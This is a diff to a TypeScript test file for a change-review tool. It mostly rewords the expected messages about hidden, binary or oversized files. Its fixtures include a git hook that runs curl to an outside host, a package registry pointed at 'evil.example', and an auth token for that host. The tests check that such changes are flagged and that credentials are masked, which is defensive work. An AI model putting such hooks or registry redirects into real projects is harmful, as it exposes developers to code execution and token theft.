@@ -78,7 +78,7 @@ describe('the request for a delivery shows', () => {
 		expect(text).toContain('`.husky/post-checkout`: new, an ordinary file (mode 100644)\n');
 		expect(text).toContain('+curl https://e.example\n');
 		expect(text).toContain(
-			'`.husky/pre-commit`: an ordinary file becomes an executable file (mode 100644 → 100755)\n\nIts content stays as it is.',
+			'`.husky/pre-commit`: an ordinary file becomes an executable file (mode 100644 → 100755)\n\nIts content does not change.',
 		);
 	});
 
@@ -95,7 +95,7 @@ describe('the request for a delivery shows', () => {
 		expect(text).toContain('-Be kind.\n+src/a.ts\n');
 	});
 
-	it('what is no text by size and digest, and says that it is signed unread', async () => {
+	it('what is no text by size and digest, and says that it is approved unseen', async () => {
 		const bytes = Buffer.from([0, 1, 2, 255]);
 		const delivery = await delivered({ 'src/a.ts': 'a\n' }, (root) => {
 			putFiles(root, { '.husky/x': 'x' });
@@ -103,7 +103,7 @@ describe('the request for a delivery shows', () => {
 		});
 		const { text } = shown(delivery);
 		expect(text).toContain(
-			`**Not shown**, because it is not text. Before: none. After: 4 bytes, SHA-256 \`${sha256(bytes)}\`. Whoever approves this approves it unread.`,
+			`**Not shown**, because it is not text. Before: none. After: 4 bytes, SHA-256 \`${sha256(bytes)}\`. If you approve, you approve this file without seeing it.`,
 		);
 	});
 
@@ -114,7 +114,9 @@ describe('the request for a delivery shows', () => {
 		const plain = await asked('registry=https://evil.example/\n');
 		expect(plain).toContain('+registry=https://evil.example/\n');
 		expect(plain).not.toContain(token);
-		expect(plain).toMatch(/ci\.yml`: changed\n\n\*\*Not shown\*\*, because it holds a credential\. Before: 28 bytes/);
+		expect(plain).toMatch(
+			/ci\.yml`: changed\n\n\*\*Not shown\*\*, because it contains a credential\. Before: 28 bytes/,
+		);
 		expect(await asked('//evil.example/:_authToken=abcdefgh\n')).not.toContain('abcdefgh');
 	});
 
@@ -122,7 +124,7 @@ describe('the request for a delivery shows', () => {
 		const text = `${'a line\n'.repeat(40_000)}`;
 		const large = await delivered({ 'a.txt': 'a\n' }, (root) => putFiles(root, { 'a.txt': text }));
 		expect(shown(large).text).toContain(
-			`\`a.txt\`: changed\n\n**Not shown**, because it is too long. Before: 2 bytes, SHA-256 \`${sha256('a\n')}\`. After: ${text.length} bytes, SHA-256 \`${sha256(text)}\`. Whoever approves this approves it unread.`,
+			`\`a.txt\`: changed\n\n**Not shown**, because it is too long. Before: 2 bytes, SHA-256 \`${sha256('a\n')}\`. After: ${text.length} bytes, SHA-256 \`${sha256(text)}\`. If you approve, you approve this file without seeing it.`,
 		);
 		const both = await delivered({ [workflow]: 'a\n' }, (root) => putFiles(root, { [workflow]: text }));
 		expect(shown(both).verdict.effects).toMatchObject([{}, { what: 'workflow' }, { what: 'large' }]);
